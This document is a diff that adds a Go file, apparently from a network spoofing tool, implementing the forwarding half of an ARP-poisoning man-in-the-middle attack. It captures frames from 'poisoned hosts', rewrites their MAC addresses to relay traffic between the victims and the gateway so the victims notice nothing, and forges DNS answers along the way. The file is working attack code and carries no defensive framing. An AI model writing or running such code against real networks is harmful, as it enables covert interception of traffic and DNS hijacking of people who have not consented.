@@ -0,0 +1,153 @@
+package spoof
+
+import (
+	"bytes"
+	"encoding/binary"
+	"fmt"
+	"github.com/google/gopacket/layers"
+	"github.com/google/gopacket/pcap"
+	"net"
+	"sync/atomic"
+)
+
+// Offsets inside an ethernet frame carrying IPv4 or IPv6
+const (
+	ethernetTypeOffset   = 12
+	ipv4DestinationStart = 30
+	ipv4DestinationEnd   = 34
+	ipv6DestinationStart = 38
+	ipv6DestinationEnd   = 54
+)
+
+// ForwardedPackets returns the number of redirected frames relayed to their real destination
+func (engine *Engine) ForwardedPackets() uint64 {
+	return atomic.LoadUint64(&engine.forwardedPackets)
+}
+
+// ForwardingFilter matches the copies of the frames written by the forwarder, so captures can leave them out
+func (engine *Engine) ForwardingFilter() string {
+	return fmt.Sprintf("not (ether src %s and not %s)", engine.interfaceMAC, engine.hostFilter("src"))
+}
+
+// hostFilter matches the packets sent from or to the addresses of the interface
+func (engine *Engine) hostFilter(direction string) string {
+	if engine.interfaceIPv6 == nil {
+		return fmt.Sprintf("%s host %s", direction, engine.interfaceIP)
+	}
+	return fmt.Sprintf("(%s host %s or %s host %s)", direction, engine.interfaceIP, direction, engine.interfaceIPv6)
+}
+
+// StartForwarding relays the IP frames the poisoned hosts send to the interface MAC to their real destination,
+// so the victims keep their connectivity without enabling IP forwarding in the kernel.
+// Errors are reported through ForwardErrors, the forwarding stops with StopForwarding or when the engine is closed
+func (engine *Engine) StartForwarding() error {
+	if engine.forwardHandle != nil {
+		return nil
+	}
+	handle, openError := pcap.OpenLive(engine.interfaceName, 65536, true, readTimeout)
+	if openError != nil {
+		return openError
+	}
+	filterError := handle.SetBPFFilter(fmt.Sprintf("(ip or ip6) and ether dst %s and not %s", engine.interfaceMAC, engine.hostFilter("dst")))
+	if filterError != nil {
+		handle.Close()
+		return filterError
+	}
+	engine.forwardHandle = handle
+	engine.ForwardErrors = make(chan error, 1)
+	engine.forwardDone = make(chan struct{})
+	go engine.forward()
+	return nil
+}
+
+// StopForwarding stops relaying frames and waits for the forwarder to finish, once it returns no other DNS answer
+// is forged
+func (engine *Engine) StopForwarding() {
+	if engine.forwardHandle == nil {
+		return
+	}
+	atomic.StoreInt32(&engine.forwardStopped, 1)
+	<-engine.forwardDone
+}
+
+func (engine *Engine) forward() {
+	defer close(engine.forwardDone)
+	for atomic.LoadInt32(&engine.closed) == 0 && atomic.LoadInt32(&engine.forwardStopped) == 0 {
+		data, _, readError := engine.forwardHandle.ReadPacketData()
+		if readError == pcap.NextErrorTimeoutExpired {
+			continue
+		} else if readError != nil {
+			if atomic.LoadInt32(&engine.closed) == 0 {
+				engine.ForwardErrors <- readError
+			}
+			return
+		}
+		if engine.dnsSpoofer != nil {
+			answered, answerError := engine.answerDNS(data)
+			if answerError != nil {
+				if atomic.LoadInt32(&engine.closed) == 0 {
+					engine.ForwardErrors <- answerError
+				}
+				return
+			}
+			if answered {
+				continue
+			}
+		}
+		if !engine.rewrite(data) {
+			continue
+		}
+		writeError := engine.forwardHandle.WritePacketData(data)
+		if writeError != nil {
+			if atomic.LoadInt32(&engine.closed) == 0 {
+				engine.ForwardErrors <- writeError
+			}
+			return
+		}
+		atomic.AddUint64(&engine.forwardedPackets, 1)
+	}
+}
+
+// rewrite points the frame to the gateway when it comes from a victim, or to the victim owning the destination IP
+// when it comes from the gateway. Frames from any other host are left alone
+func (engine *Engine) rewrite(data []byte) bool {
+	if len(data) < ipv4DestinationEnd {
+		return false
+	}
+	var destination net.IP
+	switch layers.EthernetType(binary.BigEndian.Uint16(data[ethernetTypeOffset:])) {
+	case layers.EthernetTypeIPv4:
+		destination = net.IP(data[ipv4DestinationStart:ipv4DestinationEnd])
+	case layers.EthernetTypeIPv6:
+		if len(data) < ipv6DestinationEnd {
+			return false
+		}
+		destination = net.IP(data[ipv6DestinationStart:ipv6DestinationEnd])
+	default:
+		return false
+	}
+	source := net.HardwareAddr(data[6:12])
+	engine.Lock()
+	defer engine.Unlock()
+	var nextHop net.HardwareAddr
+	if bytes.Equal(source, engine.gatewayMAC) {
+		v, found := engine.victims[destination.String()]
+		if !found {
+			return false
+		}
+		nextHop = v.mac
+	} else {
+		for _, v := range engine.victims {
+			if bytes.Equal(source, v.mac) {
+				nextHop = engine.gatewayMAC
+				break
+			}
+		}
+		if nextHop == nil {
+			return false
+		}
+	}
+	copy(data[0:6], nextHop)
+	copy(data[6:12], engine.interfaceMAC)
+	return true
+}